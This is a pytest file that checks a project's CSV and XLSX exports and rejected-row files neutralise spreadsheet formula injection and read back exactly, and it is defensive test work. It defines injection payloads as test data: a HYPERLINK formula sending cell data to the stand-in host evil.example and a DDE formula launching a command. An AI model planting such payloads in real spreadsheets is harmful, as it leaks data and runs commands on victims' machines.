"""No file Phare writes for a spreadsheet carries a live formula (htcds.cells), and Phare reads its own files back
exactly. Each writer's test switches the neutraliser off (`formula_like` answering no) and shows the formula."""

from __future__ import annotations

import csv
import html
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from htcds import cells
from htcds.sources import open_source
from htcds.sources.export import write_csv, write_xlsx
from htcds.sources.rejected import write_rejected_rows
from htcds.sources.tabular import read_text_csv
from tests.fixtures.sources import big_template_rows
from tests.fixtures.sources import write_csv as write_rows_csv

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
DDE = "=cmd|' /C calc'!A0"
PHONE = "+2348012345678"


def switch_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """The negative control: the one decision every writer asks is answered "not a formula"."""
    monkeypatch.setattr(cells, "formula_like", lambda text: False)


def live(text: str) -> bool:
    """What a spreadsheet evaluates, judged apart from the module under test: a cell starting with =, +, -, @, a tab
    or a carriage return, unless it is a plain negative number."""
    return text[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text)


def live_csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return [c for row in csv.reader(fh) for c in row if live(c)]


def xlsx_formulas(path: Path) -> list[str]:
    """The formulas in every sheet of a workbook (`<f>` elements): what Excel would evaluate on opening."""
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [html.unescape(f) for n in sheets for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", LINK, DDE, PHONE, "-", "- item",
                                  "'=x", "''+1", "'-5", "-1e5"])  # fmt: skip
def test_it_neutralises_what_a_spreadsheet_reads_as_a_formula(text: str) -> None:
    assert cells.formula_like(text)
    assert cells.neutralise(text) == "'" + text
    assert cells.unneutralise(cells.neutralise(text)) == text


@pytest.mark.parametrize("value", ["Amaka", "", "'", "O'Brien", "'quoted'", "-5", "-12.5", "[-10, 0)", "*", 7, -3, -2.5,
                                   None, True])  # fmt: skip
def test_it_leaves_text_and_numbers_that_read_as_themselves(value: Any) -> None:
    assert cells.neutralise(value) == value
    assert cells.csv_row([value]) == ["" if value is None else value]


@given(st.text())
def test_it_reads_back_exactly_what_it_neutralised(text: str) -> None:
    out = cells.neutralise(text)
    assert cells.unneutralise(out) == text
    assert not live(out)


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from([LINK, DDE, PHONE, "-5", "'=x", "a\n=b"]))))
def test_it_neutralises_a_column_as_it_neutralises_each_row(values: list[Any]) -> None:
    # A CSV export's rows are written a column at a time (htcds.sources.export.write_csv_columns): each text is
    # what `csv_row` makes of it, None an empty cell as csv.writer writes it.
    column = cells.csv_column(values)
    assert ["" if v is None else v for v in column] == [cells.csv_row([v])[0] for v in values]
    assert cells.csv_column([7, LINK, None]) == [7, "'" + LINK, None]


def test_it_writes_an_export_made_a_column_at_a_time_without_formulas(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    from htcds.sources.export import sheet_rows, write_csv_columns

    bundles = _bundles(tmp_path)
    rows = list(sheet_rows(bundles))[2:]
    columns = [list(c) for c in zip(*rows, strict=True)]
    write_csv(bundles, tmp_path / "rows.csv")
    assert write_csv_columns([columns], tmp_path / "columns.csv") == len(rows)
    assert (tmp_path / "columns.csv").read_bytes() == (tmp_path / "rows.csv").read_bytes()
    assert live_csv_cells(tmp_path / "columns.csv") == []
    switch_off(monkeypatch)  # negative control
    write_csv_columns([columns], tmp_path / "columns.csv")
    assert LINK in live_csv_cells(tmp_path / "columns.csv")


def _bundles(tmp_path: Path) -> list[dict[str, Any]]:
    """Cases as the template reader gives them, their people's names and phones as an attacker would type them."""
    source = write_rows_csv(tmp_path / "in.csv", list(big_template_rows(4)))
    bundles = [b for _, _, b in open_source(source)]
    hostile = [(LINK, "@SUM(1+1)", PHONE), (DDE, "-1+2", "+447700900123"), ("'=quoted", "-", PHONE), ("Ana", "+", PHONE)]
    for bundle, (first, second, phone) in zip(bundles, hostile, strict=True):
        bundle["persons"][0].update({"prs_FirstName": first, "prs_SecondName": second, "prs_MobilePhone": phone})
    return bundles


def test_it_writes_case_exports_without_formulas_and_reads_them_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bundles = _bundles(tmp_path)
    csv_out, xlsx_out = tmp_path / "cases.csv", tmp_path / "cases.xlsx"
    write_csv(bundles, csv_out)
    write_xlsx(bundles, xlsx_out)
    assert live_csv_cells(csv_out) == [] and xlsx_formulas(xlsx_out) == []
    text = csv_out.read_text("utf-8")
    assert f"'{PHONE}" in text and "'=cmd|" in text and "''=quoted" in text
    # In the workbook the values are unchanged, as text cells Excel keeps as text even when edited (quote prefix).
    from openpyxl import load_workbook

    sheet = load_workbook(xlsx_out)["Case Sheet"]
    linked = next(c for row in sheet.iter_rows() for c in row if c.value == LINK)
    assert linked.data_type == "s" and linked.quotePrefix
    # Phare reads both back as they were: the phone is the same phone, the names the same text.
    for out in (csv_out, xlsx_out):
        source = open_source(out)
        assert [b for _, _, b in source] == bundles, out.name
    # Negative control: with the neutraliser off, the same bundles give live formulas in both files.
    switch_off(monkeypatch)
    write_csv(bundles, csv_out)
    write_xlsx(bundles, xlsx_out)
    assert LINK in live_csv_cells(csv_out) and DDE in live_csv_cells(csv_out)
    assert LINK[1:] in xlsx_formulas(xlsx_out)


def test_it_writes_rejected_rows_without_formulas_and_reads_them_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = list(big_template_rows(3))
    first, phone = rows[0].index("prs_FirstName"), rows[0].index("prs_MobilePhone")
    rows[2][first], rows[2][phone] = DDE, PHONE
    rows[3][first] = "''=quoted"  # a file Phare wrote: the name is "'=quoted"
    original = write_rows_csv(tmp_path / "cases.csv", rows)
    out = tmp_path / "rejected.csv"
    assert write_rejected_rows(open_source(original), {3: ("k3", LINK), 4: ("k4", "[x] two")}, out) == 2
    assert live_csv_cells(out) == []
    back = [r[:-2] for r in read_text_csv(out.read_text("utf-8"))]
    assert back[2][first] == DDE and back[2][phone] == PHONE and back[3][first] == "'=quoted"
    assert read_text_csv(out.read_text("utf-8"))[2][-1] == LINK  # the problems column too
    switch_off(monkeypatch)
    write_rejected_rows(open_source(original), {3: ("k3", LINK)}, out)
    assert DDE in live_csv_cells(out) and LINK in live_csv_cells(out)


def test_it_lists_rejected_json_items_without_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import json

    path = tmp_path / "bundles.json"
    path.write_text(json.dumps([{"case": {"id": DDE}, "persons": [], "participants": []}]), "utf-8")
    out = tmp_path / "rejected.csv"
    write_rejected_rows(open_source(path), {1: (DDE, "[invalid-date] x")}, out)
    assert live_csv_cells(out) == [] and read_text_csv(out.read_text("utf-8"))[1][0] == DDE
    switch_off(monkeypatch)
    write_rejected_rows(open_source(path), {1: (DDE, "[invalid-date] x")}, out)
    assert live_csv_cells(out) == [DDE]
